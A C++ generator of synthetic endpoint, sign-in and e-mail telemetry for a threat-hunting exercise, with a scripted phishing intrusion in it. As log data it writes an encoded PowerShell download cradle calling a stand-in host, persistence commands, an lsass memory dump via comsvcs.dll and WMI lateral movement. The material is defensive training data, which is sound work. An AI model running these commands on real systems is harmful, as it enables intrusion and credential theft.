// Writes LogHunt's sample data set: one working day (2026-11-20, 07:00-18:00 UTC) of a small
// company's endpoint, identity and e-mail telemetry with one intrusion in it, as Defender XDR /
// Sentinel tables in JSON Lines. Deterministic: the same program writes the same bytes, so the
// output is checked in (sample-plugins/log-hunt/data/) and a test compares it with a fresh run.
//
// The intrusion (all indicators are documentation addresses and reserved names):
//   08:55  a phishing e-mail "Overdue invoice 4471" from billing@invoices-payments.test
//          (198.51.100.23) reaches mrivera@corp.example with Invoice_4471.docm
//   09:02  Maria opens it on ws-fin-07: OUTLOOK.EXE writes the file, WINWORD.EXE opens it
//   09:03  the macro starts powershell.exe -nop -w hidden -enc ... which downloads
//          http://update.invoice-docs.test/a.ps1 from 198.51.100.77 and writes updater.exe
//   09:04  persistence: a Run key "TeamsUpdater" and a scheduled task "OneDrive Sync Check"
//   09:05- updater.exe beacons to sync.cloud-updates.example (203.0.113.45:443) every 5 min
//   09:40  credential dumping: rundll32.exe comsvcs.dll MiniDump of lsass to lsass.dmp
//   10:05  lateral movement: wmic /node:srv-file-01 with svc-backup's credentials; a network
//          logon on srv-file-01 from 10.20.1.37 and WmiPrvSE.exe starting encoded PowerShell
//   10:30  staging and exfiltration: 7z.exe archives the finance share, rclone.exe sends it to
//          files.exfil-drop.example (203.0.113.88:443)
//   11:20  a sign-in as mrivera from 198.51.100.150 (NL) after three failures
//
//   generate_sample_data OUTPUT_DIR
#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <vector>

namespace {

// splitmix64: a fixed, portable sequence (std:: distributions differ between libraries).
class Random {
 public:
  explicit Random(uint64_t seed) : state_(seed) {}
  uint64_t next() {
    uint64_t z = (state_ += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
  }
  int below(int n) { return static_cast<int>(next() % static_cast<uint64_t>(n)); }
  template <class T>
  const T& pick(const std::vector<T>& items) {
    return items[static_cast<size_t>(below(static_cast<int>(items.size())))];
  }

 private:
  uint64_t state_;
};

// Seconds since 2026-11-20T00:00:00Z.
std::string timestamp(int64_t seconds, int millis = 0) {
  char buffer[64];
  std::snprintf(buffer, sizeof buffer, "2026-11-20T%02lld:%02lld:%02lld.%03dZ",
                static_cast<long long>(seconds / 3600), static_cast<long long>(seconds / 60 % 60),
                static_cast<long long>(seconds % 60), millis);
  return buffer;
}

int64_t at(int hour, int minute, int second = 0) {
  return hour * 3600 + minute * 60 + second;
}

std::string escape(const std::string& text) {
  std::string out;
  for (char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    if (c == '\n') {
      out += "\\n";
      continue;
    }
    out += c;
  }
  return out;
}

// One JSON object, members in the order added.
class Line {
 public:
  Line& str(const char* key, const std::string& value) {
    member(key);
    text_ += '"' + escape(value) + '"';
    return *this;
  }
  Line& num(const char* key, int64_t value) {
    member(key);
    text_ += std::to_string(value);
    return *this;
  }
  Line& flag(const char* key, bool value) {
    member(key);
    text_ += value ? "true" : "false";
    return *this;
  }
  Line& raw(const char* key, const std::string& json) {
    member(key);
    text_ += json;
    return *this;
  }
  std::string done() const { return "{" + text_ + "}"; }

 private:
  void member(const char* key) {
    if (!text_.empty()) text_ += ',';
    text_ += '"';
    text_ += key;
    text_ += "\":";
  }
  std::string text_;
};

struct Event {
  int64_t seconds;
  int millis;
  uint64_t order;
  std::string json;
};

class Table {
 public:
  void add(int64_t seconds, int millis, const std::string& json) {
    events_.push_back({seconds, millis, events_.size(), json});
  }
  void write(const std::filesystem::path& file) {
    std::sort(events_.begin(), events_.end(), [](const Event& a, const Event& b) {
      if (a.seconds != b.seconds) return a.seconds < b.seconds;
      if (a.millis != b.millis) return a.millis < b.millis;
      return a.order < b.order;
    });
    std::ofstream out(file, std::ios::binary | std::ios::trunc);
    for (const auto& event : events_)
      out << event.json << '\n';
  }
  size_t size() const { return events_.size(); }

 private:
  std::vector<Event> events_;
};

std::string base64(const std::string& bytes) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    uint32_t n = (static_cast<unsigned char>(bytes[i]) << 16) |
                 (static_cast<unsigned char>(bytes[i + 1]) << 8) |
                 static_cast<unsigned char>(bytes[i + 2]);
    for (int shift = 18; shift >= 0; shift -= 6)
      out += kAlphabet[(n >> shift) & 63];
  }
  if (i < bytes.size()) {
    uint32_t n = static_cast<unsigned char>(bytes[i]) << 16;
    if (i + 1 < bytes.size()) n |= static_cast<unsigned char>(bytes[i + 1]) << 8;
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += i + 1 < bytes.size() ? kAlphabet[(n >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

// PowerShell's -EncodedCommand: base64 of UTF-16LE.
std::string encoded_command(const std::string& script) {
  std::string utf16;
  for (char c : script) {
    utf16 += c;
    utf16 += '\0';
  }
  return base64(utf16);
}

// Stable fake digests and ids: FNV-1a of `seed` drives the generator (std::hash differs
// between standard libraries).
std::string hex_digest(const std::string& seed, size_t digits) {
  uint64_t h = 1469598103934665603ULL;
  for (char c : seed)
    h = (h ^ static_cast<unsigned char>(c)) * 1099511628211ULL;
  Random stable(h);
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  for (size_t i = 0; i < digits; ++i)
    out += kHex[stable.next() & 15];
  return out;
}

struct Host {
  std::string name;  // short name
  std::string ip;
  std::string user;  // the person who works on it ("" for servers)
  std::string fqdn() const { return name + ".corp.example"; }
  std::string id() const { return hex_digest("device:" + name, 40); }
};

struct Person {
  std::string account;
  std::string display;
  std::string upn() const { return account + "@corp.example"; }
  std::string sid() const {
    uint64_t h = 1469598103934665603ULL;
    for (char c : account)
      h = (h ^ static_cast<unsigned char>(c)) * 1099511628211ULL;
    return "S-1-5-21-1004336348-1177238915-682003330-" + std::to_string(1100 + h % 800);
  }
};

struct Program {
  std::string file;
  std::string folder;
  std::string command;
  std::string parent;
};

class Generator {
 public:
  explicit Generator(std::filesystem::path out) : out_(std::move(out)) {}

  void run() {
    background_processes();
    background_network();
    background_logons();
    background_files();
    background_registry();
    background_signins();
    background_email();
    intrusion();
    std::filesystem::create_directories(out_);
    for (auto& [name, table] : tables_) {
      table.write(out_ / (name + ".jsonl"));
      std::printf("%-22s %5zu events\n", name.c_str(), table.size());
    }
  }

 private:
  const std::vector<Host> hosts_ = {
      {"ws-fin-07", "10.20.1.37", "mrivera"},     {"ws-fin-02", "10.20.1.32", "dgarcia"},
      {"ws-hr-02", "10.20.1.12", "jchen"},        {"ws-eng-11", "10.20.1.51", "apatel"},
      {"ws-eng-14", "10.20.1.54", "lnguyen"},     {"ws-sales-03", "10.20.1.23", "tbrown"},
      {"ws-sales-05", "10.20.1.25", "skowalski"}, {"ws-mkt-04", "10.20.1.44", "emartin"},
      {"ws-it-01", "10.20.1.61", "jsmith"},       {"ws-exec-01", "10.20.1.71", "rwilson"},
      {"srv-file-01", "10.20.2.10", ""},          {"dc-01", "10.20.2.5", ""},
  };
  const std::map<std::string, Person> people_ = {
      {"mrivera", {"mrivera", "Maria Rivera"}},
      {"dgarcia", {"dgarcia", "Diego Garcia"}},
      {"jchen", {"jchen", "Jing Chen"}},
      {"apatel", {"apatel", "Anil Patel"}},
      {"lnguyen", {"lnguyen", "Linh Nguyen"}},
      {"tbrown", {"tbrown", "Tom Brown"}},
      {"skowalski", {"skowalski", "Sofia Kowalski"}},
      {"emartin", {"emartin", "Eva Martin"}},
      {"jsmith", {"jsmith", "John Smith"}},
      {"rwilson", {"rwilson", "Rachel Wilson"}},
      {"svc-backup", {"svc-backup", "Backup Service"}},
      {"system", {"system", "SYSTEM"}},
  };

  const Host& host(const std::string& name) const {
    for (const auto& candidate : hosts_)
      if (candidate.name == name) return candidate;
    return hosts_.front();
  }
  std::vector<const Host*> workstations() const {
    std::vector<const Host*> out;
    for (const auto& candidate : hosts_)
      if (!candidate.user.empty()) out.push_back(&candidate);
    return out;
  }

  int millis() { return random_.below(1000); }

  Line device(const Host& h, int64_t seconds, int ms, const char* action) {
    Line line;
    line.str("Timestamp", timestamp(seconds, ms))
        .str("DeviceId", h.id())
        .str("DeviceName", h.fqdn())
        .str("ActionType", action);
    return line;
  }

  // DeviceProcessEvents: `program` started by `parent_command` as `account`.
  void process(const Host& h, int64_t seconds, const std::string& account, const Program& program,
               const std::string& parent_command, const std::string& integrity = "Medium") {
    const int ms = millis();
    const Person& person = people_.at(account);
    Line line = device(h, seconds, ms, "ProcessCreated");
    line.str("FileName", program.file)
        .str("FolderPath", program.folder + "\\" + program.file)
        .str("SHA256", hex_digest("sha256:" + program.file + program.folder, 64))
        .num("ProcessId", 1000 + random_.below(60000))
        .str("ProcessCommandLine", program.command)
        .str("ProcessIntegrityLevel", integrity)
        .str("ProcessCreationTime", timestamp(seconds, ms))
        .str("AccountDomain", "corp")
        .str("AccountName", person.account)
        .str("AccountSid", person.sid())
        .str("AccountUpn", person.upn())
        .str("InitiatingProcessAccountName", person.account)
        .str("InitiatingProcessFileName", program.parent)
        .num("InitiatingProcessId", 400 + random_.below(9000))
        .str("InitiatingProcessCommandLine", parent_command)
        .num("ReportId", ++report_ids_["DeviceProcessEvents"]);
    tables_["DeviceProcessEvents"].add(seconds, ms, line.done());
  }

  void connection(const Host& h, int64_t seconds, const std::string& account,
                  const std::string& process_name, const std::string& command,
                  const std::string& remote_ip, int port, const std::string& url,
                  const char* action = "ConnectionSuccess") {
    const int ms = millis();
    const bool internal = remote_ip.rfind("10.", 0) == 0;
    Line line = device(h, seconds, ms, action);
    line.str("RemoteIP", remote_ip)
        .num("RemotePort", port)
        .str("RemoteUrl", url)
        .str("LocalIP", h.ip)
        .num("LocalPort", 49152 + random_.below(16000))
        .str("Protocol", "Tcp")
        .str("RemoteIPType", internal ? "Private" : "Public")
        .str("InitiatingProcessFileName", process_name)
        .str("InitiatingProcessCommandLine", command)
        .str("InitiatingProcessAccountName", account)
        .num("ReportId", ++report_ids_["DeviceNetworkEvents"]);
    tables_["DeviceNetworkEvents"].add(seconds, ms, line.done());
  }

  void logon(const Host& h, int64_t seconds, const std::string& account, const char* type,
             const char* action, const std::string& remote_ip = "",
             const std::string& remote_device = "", const std::string& failure = "",
             bool local_admin = false) {
    const int ms = millis();
    const Person& person = people_.at(account);
    Line line = device(h, seconds, ms, action);
    line.str("LogonType", type)
        .str("AccountDomain", "corp")
        .str("AccountName", person.account)
        .str("AccountSid", person.sid())
        .str("Protocol", std::string(type) == "Network" ? "NTLM" : "Negotiate")
        .str("FailureReason", failure)
        .flag("IsLocalAdmin", local_admin)
        .num("LogonId", 100000 + random_.below(900000))
        .str("RemoteDeviceName", remote_device)
        .str("RemoteIP", remote_ip)
        .num("ReportId", ++report_ids_["DeviceLogonEvents"]);
    tables_["DeviceLogonEvents"].add(seconds, ms, line.done());
  }

  void file(const Host& h, int64_t seconds, const char* action, const std::string& name,
            const std::string& folder, const std::string& process_name, const std::string& account,
            const std::string& origin_url = "", const std::string& origin_ip = "",
            int64_t size = 0) {
    const int ms = millis();
    Line line = device(h, seconds, ms, action);
    line.str("FileName", name)
        .str("FolderPath", folder + "\\" + name)
        .str("SHA256", hex_digest("file:" + name, 64))
        .str("FileOriginUrl", origin_url)
        .str("FileOriginIP", origin_ip)
        .num("FileSize", size ? size : 2000 + random_.below(900000))
        .str("InitiatingProcessAccountName", account)
        .str("InitiatingProcessFileName", process_name)
        .num("ReportId", ++report_ids_["DeviceFileEvents"]);
    tables_["DeviceFileEvents"].add(seconds, ms, line.done());
  }

  void registry(const Host& h, int64_t seconds, const std::string& key,
                const std::string& value_name, const std::string& data,
                const std::string& process_name, const std::string& command,
                const std::string& account) {
    const int ms = millis();
    Line line = device(h, seconds, ms, "RegistryValueSet");
    line.str("RegistryKey", key)
        .str("RegistryValueType", "String")
        .str("RegistryValueName", value_name)
        .str("RegistryValueData", data)
        .str("InitiatingProcessAccountName", account)
        .str("InitiatingProcessFileName", process_name)
        .str("InitiatingProcessCommandLine", command)
        .num("ReportId", ++report_ids_["DeviceRegistryEvents"]);
    tables_["DeviceRegistryEvents"].add(seconds, ms, line.done());
  }

  void signin(int64_t seconds, const std::string& account, const std::string& app,
              const std::string& ip, const std::string& country, const std::string& city,
              const char* result, const char* description, const char* risk = "none",
              const std::string& browser = "Edge 131.0.0") {
    const int ms = millis();
    const Person& person = people_.at(account);
    const std::string id = hex_digest("signin:" + std::to_string(seconds) + account + app + ip, 32);
    const std::string guid = id.substr(0, 8) + "-" + id.substr(8, 4) + "-" + id.substr(12, 4) +
                             "-" + id.substr(16, 4) + "-" + id.substr(20, 12);
    Line line;
    line.str("TimeGenerated", timestamp(seconds, ms))
        .str("Id", guid)
        .str("UserPrincipalName", person.upn())
        .str("UserDisplayName", person.display)
        .str("AppDisplayName", app)
        .str("IPAddress", ip)
        .str("Location", country)
        .raw("LocationDetails",
             "{\"city\":\"" + city + "\",\"countryOrRegion\":\"" + country + "\"}")
        .raw("DeviceDetail", "{\"browser\":\"" + browser + "\",\"operatingSystem\":\"Windows10\"}")
        .str("ResultType", result)
        .str("ResultDescription", description)
        .str("ClientAppUsed", "Browser")
        .flag("IsInteractive", true)
        .str("ConditionalAccessStatus", std::string(result) == "0" ? "success" : "notApplied")
        .str("RiskLevelDuringSignIn", risk)
        .str("Type", "SigninLogs");
    tables_["SigninLogs"].add(seconds, ms, line.done());
  }

  void email(int64_t seconds, const std::string& sender, const std::string& sender_name,
             const std::string& sender_ip, const std::string& recipient, const std::string& subject,
             const char* direction, int attachments, int urls, const char* threats = "") {
    const int ms = millis();
    const std::string id =
        hex_digest("mail:" + std::to_string(seconds) + sender + recipient + subject, 32);
    const std::string domain = sender.substr(sender.find('@') + 1);
    Line line;
    line.str("Timestamp", timestamp(seconds, ms))
        .str("NetworkMessageId", id.substr(0, 8) + "-" + id.substr(8, 4) + "-" + id.substr(12, 4) +
                                     "-" + id.substr(16, 4) + "-" + id.substr(20, 12))
        .str("InternetMessageId", "<" + id.substr(0, 16) + "@" + domain + ">")
        .str("SenderMailFromAddress", sender)
        .str("SenderFromAddress", sender)
        .str("SenderDisplayName", sender_name)
        .str("SenderFromDomain", domain)
        .str("SenderIPv4", sender_ip)
        .str("RecipientEmailAddress", recipient)
        .str("Subject", subject)
        .str("EmailDirection", direction)
        .str("DeliveryAction", "Delivered")
        .str("DeliveryLocation", "Inbox/folder")
        .str("ThreatTypes", threats)
        .num("AttachmentCount", attachments)
        .num("UrlCount", urls)
        .str("ReportId", id.substr(0, 12));
    tables_["EmailEvents"].add(seconds, ms, line.done());
  }

  // ---------------------------------------------------------------------------------------

  void background_processes() {
    const std::string system32 = "C:\\Windows\\System32";
    const std::vector<Program> everyone = {
        {"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application",
         "\"chrome.exe\" --type=renderer --lang=en-US", "explorer.exe"},
        {"msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
         "\"msedge.exe\" https://intranet.corp.example/", "explorer.exe"},
        {"OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", "\"OUTLOOK.EXE\"",
         "explorer.exe"},
        {"ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams",
         "\"ms-teams.exe\" --system-initiated", "explorer.exe"},
        {"OneDrive.exe", "C:\\Program Files\\Microsoft OneDrive", "\"OneDrive.exe\" /background",
         "explorer.exe"},
        {"svchost.exe", system32, "svchost.exe -k netsvcs -p -s Schedule", "services.exe"},
        {"svchost.exe", system32, "svchost.exe -k LocalService -p -s EventLog", "services.exe"},
        {"SearchProtocolHost.exe", system32,
         "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe1", "SearchIndexer.exe"},
        {"WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16",
         "\"WINWORD.EXE\" /n \"C:\\Users\\Public\\Documents\\Quarterly plan.docx\"",
         "explorer.exe"},
        {"EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16",
         "\"EXCEL.EXE\" \"C:\\Users\\Public\\Documents\\Budget 2027.xlsx\"", "explorer.exe"},
        {"conhost.exe", system32, "conhost.exe 0xffffffff -ForceV1", "cmd.exe"},
        {"taskhostw.exe", system32, "taskhostw.exe Install $(Arg0)", "svchost.exe"},
    };
    const std::vector<Program> engineers = {
        {"git.exe", "C:\\Program Files\\Git\\cmd", "git.exe fetch --all --prune", "Code.exe"},
        {"Code.exe", "C:\\Users\\Public\\AppData\\Local\\Programs\\Microsoft VS Code",
         "\"Code.exe\" C:\\src\\billing-service", "explorer.exe"},
        {"python.exe", "C:\\Python312", "python.exe -m pytest tests", "Code.exe"},
        {"cmd.exe", system32, "cmd.exe /c build.cmd", "Code.exe"},
    };
    const std::vector<Program> admins = {
        {"powershell.exe", system32 + "\\WindowsPowerShell\\v1.0",
         "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\IT\\Scripts\\inventory.ps1",
         "explorer.exe"},
        {"powershell.exe", system32 + "\\WindowsPowerShell\\v1.0",
         "powershell.exe -Command Get-Service | Where-Object Status -eq Stopped", "explorer.exe"},
        {"mmc.exe", system32, "\"mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"", "explorer.exe"},
        {"cmd.exe", system32, "cmd.exe /c ipconfig /all", "explorer.exe"},
        {"schtasks.exe", system32, "schtasks.exe /query /fo LIST", "cmd.exe"},
    };
    for (const Host* h : workstations()) {
      const bool engineer = h->name.rfind("ws-eng", 0) == 0;
      const bool admin = h->name == "ws-it-01";
      for (int64_t t = at(7, 30) + random_.below(600); t < at(17, 45);
           t += 150 + random_.below(330)) {
        const Program* program = &random_.pick(everyone);
        if (engineer && random_.below(3) == 0) program = &random_.pick(engineers);
        if (admin && random_.below(3) == 0) program = &random_.pick(admins);
        process(*h, t, h->user, *program, "\"" + program->parent + "\"");
      }
      // A logon script runs PowerShell on every workstation in the morning: an encoded-looking
      // but benign command that hunts must tell apart.
      process(
          *h, at(7, 50) + random_.below(900), h->user,
          {"powershell.exe", system32 + "\\WindowsPowerShell\\v1.0",
           "powershell.exe -NoProfile -NonInteractive -File \\\\dc-01\\NETLOGON\\map-drives.ps1",
           "gpscript.exe"},
          "gpscript.exe /Logon");
    }
    // Servers: services only.
    for (const char* name : {"srv-file-01", "dc-01"}) {
      const Host& h = host(name);
      for (int64_t t = at(7, 0) + random_.below(300); t < at(18, 0);
           t += 600 + random_.below(900)) {
        const Program& program = random_.pick(everyone);
        if (program.parent != "services.exe" && program.parent != "svchost.exe" &&
            program.parent != "SearchIndexer.exe")
          continue;
        process(h, t, "system", program, "\"" + program.parent + "\"", "System");
      }
      process(h, at(12, 0), "svc-backup",
              {"wbadmin.exe", system32,
               "wbadmin.exe start backup -backupTarget:\\\\nas-01\\backup -quiet", "svchost.exe"},
              "svchost.exe -k netsvcs", "High");
    }
  }

  void background_network() {
    struct Site {
      std::string url;
      std::string ip;
      std::string process;
    };
    const std::vector<Site> sites = {
        {"teams.collab.example", "192.0.2.20", "ms-teams.exe"},
        {"outlook.mail.example", "192.0.2.30", "OUTLOOK.EXE"},
        {"files.onedrive.example", "192.0.2.40", "OneDrive.exe"},
        {"www.news.example", "192.0.2.51", "chrome.exe"},
        {"search.example", "192.0.2.52", "chrome.exe"},
        {"cdn.vendor.example", "192.0.2.60", "msedge.exe"},
        {"intranet.corp.example", "10.20.2.20", "msedge.exe"},
        {"crm.saas.example", "192.0.2.70", "chrome.exe"},
    };
    for (const Host* h : workstations()) {
      for (int64_t t = at(7, 35) + random_.below(300); t < at(17, 50);
           t += 200 + random_.below(330)) {
        const Site& site = random_.pick(sites);
        connection(*h, t, h->user, site.process, "\"" + site.process + "\"", site.ip, 443,
                   site.url);
      }
      // SMB to the file server and LDAP to the domain controller.
      for (int i = 0; i < 4; ++i)
        connection(*h, at(8, 0) + random_.below(9 * 3600), h->user, "System", "", "10.20.2.10", 445,
                   "");
      connection(*h, at(7, 40) + random_.below(1200), h->user, "lsass.exe",
                 "C:\\Windows\\system32\\lsass.exe", "10.20.2.5", 389, "");
    }
    connection(host("srv-file-01"), at(12, 1), "svc-backup", "wbadmin.exe",
               "wbadmin.exe start backup", "10.20.2.40", 445, "nas-01.corp.example");
  }

  void background_logons() {
    for (const Host* h : workstations()) {
      logon(*h, at(7, 30) + random_.below(1800), h->user, "Interactive", "LogonSuccess");
      if (random_.below(3) == 0)
        logon(*h, at(7, 25) + random_.below(300), h->user, "Interactive", "LogonFailed", "", "",
              "WrongPassword");
      for (int i = 0; i < 2; ++i)
        logon(*h, at(12, 30) + random_.below(3600), h->user, "Unlock", "LogonSuccess");
      // Network logons on the file server from this workstation.
      for (int i = 0; i < 3; ++i)
        logon(host("srv-file-01"), at(8, 0) + random_.below(9 * 3600), h->user, "Network",
              "LogonSuccess", h->ip, h->fqdn());
      logon(host("dc-01"), at(7, 40) + random_.below(1800), h->user, "Network", "LogonSuccess",
            h->ip, h->fqdn());
    }
    // The nightly backup account logs on to the file server from the backup appliance at noon.
    logon(host("srv-file-01"), at(12, 0), "svc-backup", "Network", "LogonSuccess", "10.20.2.40",
          "nas-01.corp.example", "", true);
    logon(host("ws-it-01"), at(9, 30), "jsmith", "RemoteInteractive", "LogonSuccess", "10.20.1.61",
          "ws-it-01", "", true);
  }

  void background_files() {
    const std::vector<std::string> documents = {
        "Quarterly plan.docx", "Budget 2027.xlsx", "Minutes 2026-11-19.docx",
        "Customer list.xlsx",  "Roadmap.pptx",     "Invoice template.docx"};
    for (const Host* h : workstations()) {
      const std::string home = "C:\\Users\\" + h->user;
      for (int64_t t = at(8, 0) + random_.below(1800); t < at(17, 30);
           t += 900 + random_.below(1800)) {
        const std::string& document = random_.pick(documents);
        const bool excel = document.find(".xlsx") != std::string::npos;
        file(*h, t, random_.below(3) == 0 ? "FileCreated" : "FileModified", document,
             home + "\\Documents", excel ? "EXCEL.EXE" : "WINWORD.EXE", h->user);
      }
      for (int i = 0; i < 2; ++i)
        file(*h, at(9, 0) + random_.below(8 * 3600), "FileCreated",
             "report-" + std::to_string(random_.below(900) + 100) + ".pdf", home + "\\Downloads",
             "chrome.exe", h->user, "https://crm.saas.example/export", "192.0.2.70");
    }
    for (int i = 0; i < 25; ++i)
      file(host("srv-file-01"), at(8, 0) + random_.below(9 * 3600), "FileModified",
           "ledger-" + std::to_string(random_.below(12) + 1) + ".xlsx", "D:\\Shares\\finance",
           "System", "dgarcia");
  }

  void background_registry() {
    for (const Host* h : workstations()) {
      registry(*h, at(7, 31) + random_.below(1800),
               "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive",
               "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
               "OneDrive.exe", "\"OneDrive.exe\" /background", h->user);
      for (int i = 0; i < 6; ++i)
        registry(
            *h, at(8, 0) + random_.below(9 * 3600),
            "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
            "MRUListEx", "0x0" + std::to_string(i), "explorer.exe", "C:\\Windows\\explorer.exe",
            h->user);
    }
  }

  void background_signins() {
    const std::vector<std::string> apps = {"Office 365 Exchange Online", "Microsoft Teams",
                                           "Office 365 SharePoint Online", "Microsoft 365 Portal"};
    for (const Host* h : workstations()) {
      for (int64_t t = at(7, 40) + random_.below(900); t < at(17, 30);
           t += 2400 + random_.below(3600))
        signin(t, h->user, random_.pick(apps), "192.0.2.10", "US", "Seattle", "0", "");
    }
    // One traveller signs in from a hotel, and one mistypes a password.
    signin(at(8, 10), "rwilson", "Office 365 Exchange Online", "192.0.2.201", "GB", "London", "0",
           "");
    signin(at(8, 9), "rwilson", "Office 365 Exchange Online", "192.0.2.201", "GB", "London",
           "50126", "Invalid username or password or Invalid on-premise username or password.");
    signin(at(13, 5), "tbrown", "Microsoft Teams", "192.0.2.10", "US", "Seattle", "50126",
           "Invalid username or password or Invalid on-premise username or password.");
  }

  void background_email() {
    const std::vector<std::string> subjects = {"Team lunch on Friday",   "Re: Q4 numbers",
                                               "Build failed on main",   "Customer call notes",
                                               "Your order has shipped", "Weekly newsletter",
                                               "Re: travel approval",    "Meeting moved to 3pm"};
    const std::vector<std::pair<std::string, std::string>> outside = {
        {"orders@shop.example", "192.0.2.90"},
        {"news@newsletter.example", "192.0.2.91"},
        {"support@vendor.example", "192.0.2.92"}};
    const auto people = workstations();
    for (int64_t t = at(7, 5); t < at(17, 55); t += 120 + random_.below(360)) {
      const Host* to = people[static_cast<size_t>(random_.below(static_cast<int>(people.size())))];
      if (random_.below(3) == 0) {
        const auto& [sender, ip] = random_.pick(outside);
        email(t, sender, sender.substr(0, sender.find('@')), ip, people_.at(to->user).upn(),
              random_.pick(subjects), "Inbound", random_.below(4) == 0 ? 1 : 0, random_.below(3));
      } else {
        const Host* from =
            people[static_cast<size_t>(random_.below(static_cast<int>(people.size())))];
        email(t, people_.at(from->user).upn(), people_.at(from->user).display, "10.20.2.25",
              people_.at(to->user).upn(), random_.pick(subjects), "Intra-org",
              random_.below(5) == 0 ? 1 : 0, random_.below(2));
      }
    }
  }

  // ---------------------------------------------------------------------------------------

  void intrusion() {
    const Host& victim = host("ws-fin-07");
    const Host& server = host("srv-file-01");
    const std::string system32 = "C:\\Windows\\System32";
    const std::string powershell_folder = system32 + "\\WindowsPowerShell\\v1.0";
    const std::string office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
    const std::string home = "C:\\Users\\mrivera";
    const std::string attachment_folder =
        home + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7XK2M4P";
    const std::string payload_folder = home + "\\AppData\\Roaming\\Microsoft\\Teams";
    const std::string payload = payload_folder + "\\updater.exe";

    // 08:55 the phishing e-mail (and a second copy to a colleague who never opens it).
    email(at(8, 55, 12), "billing@invoices-payments.test", "Accounts Receivable", "198.51.100.23",
          "mrivera@corp.example", "Overdue invoice 4471 - payment required today", "Inbound", 1, 0);
    email(at(8, 55, 14), "billing@invoices-payments.test", "Accounts Receivable", "198.51.100.23",
          "dgarcia@corp.example", "Overdue invoice 4471 - payment required today", "Inbound", 1, 0);

    // 09:02 opened from Outlook.
    file(victim, at(9, 2, 3), "FileCreated", "Invoice_4471.docm", attachment_folder, "OUTLOOK.EXE",
         "mrivera", "", "", 48213);
    process(victim, at(9, 2, 5), "mrivera",
            {"WINWORD.EXE", office,
             "\"WINWORD.EXE\" /n \"" + attachment_folder + "\\Invoice_4471.docm\" /o \"\"",
             "OUTLOOK.EXE"},
            "\"OUTLOOK.EXE\"");

    // 09:03 the macro's download cradle.
    const std::string cradle =
        "IEX (New-Object Net.WebClient).DownloadString('http://update.invoice-docs.test/a.ps1')";
    const std::string encoded = "powershell.exe -nop -w hidden -enc " + encoded_command(cradle);
    process(victim, at(9, 3, 1), "mrivera",
            {"powershell.exe", powershell_folder, encoded, "WINWORD.EXE"},
            "\"WINWORD.EXE\" /n \"" + attachment_folder + "\\Invoice_4471.docm\" /o \"\"");
    connection(victim, at(9, 3, 4), "mrivera", "powershell.exe", encoded, "198.51.100.77", 80,
               "http://update.invoice-docs.test/a.ps1");
    file(victim, at(9, 3, 9), "FileCreated", "updater.exe", payload_folder, "powershell.exe",
         "mrivera", "http://update.invoice-docs.test/updater.exe", "198.51.100.77", 1843712);

    // 09:04 persistence: a Run key and a scheduled task.
    registry(victim, at(9, 4, 2),
             "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "TeamsUpdater",
             "\"" + payload + "\" --background", "powershell.exe", encoded, "mrivera");
    process(victim, at(9, 4, 10), "mrivera",
            {"schtasks.exe", system32,
             "schtasks.exe /create /tn \"OneDrive Sync Check\" /tr \"" + payload +
                 "\" /sc onlogon /rl highest /f",
             "powershell.exe"},
            encoded);
    process(victim, at(9, 4, 40), "mrivera",
            {"updater.exe", payload_folder, "\"" + payload + "\" --background", "powershell.exe"},
            encoded);

    // 09:05-11:30 beacons every five minutes.
    for (int64_t t = at(9, 5, 0); t <= at(11, 30, 0); t += 300)
      connection(victim, t + random_.below(8), "mrivera", "updater.exe",
                 "\"" + payload + "\" --background", "203.0.113.45", 443,
                 "sync.cloud-updates.example");

    // 09:40 reconnaissance, then lsass dumped with comsvcs.dll.
    process(victim, at(9, 38, 2), "mrivera", {"whoami.exe", system32, "whoami.exe /all", "cmd.exe"},
            "cmd.exe /c whoami /all");
    process(victim, at(9, 38, 30), "mrivera",
            {"net.exe", system32, "net.exe group \"Domain Admins\" /domain", "cmd.exe"},
            "cmd.exe /c net group");
    process(victim, at(9, 40, 11), "mrivera",
            {"rundll32.exe", system32,
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 "
             "C:\\Users\\Public\\lsass.dmp full",
             "updater.exe"},
            "\"" + payload + "\" --background", "High");
    file(victim, at(9, 40, 14), "FileCreated", "lsass.dmp", "C:\\Users\\Public", "rundll32.exe",
         "mrivera", "", "", 52428800);

    // 10:05 lateral movement over WMI with the backup account's credentials.
    process(victim, at(10, 5, 0), "mrivera",
            {"WMIC.exe", system32 + "\\wbem",
             "wmic.exe /node:srv-file-01 /user:corp\\svc-backup process call create "
             "\"powershell.exe -nop -w hidden -enc " +
                 encoded_command(
                     "IEX (New-Object "
                     "Net.WebClient).DownloadString('http://update.invoice-docs.test/b.ps1')") +
                 "\"",
             "updater.exe"},
            "\"" + payload + "\" --background");
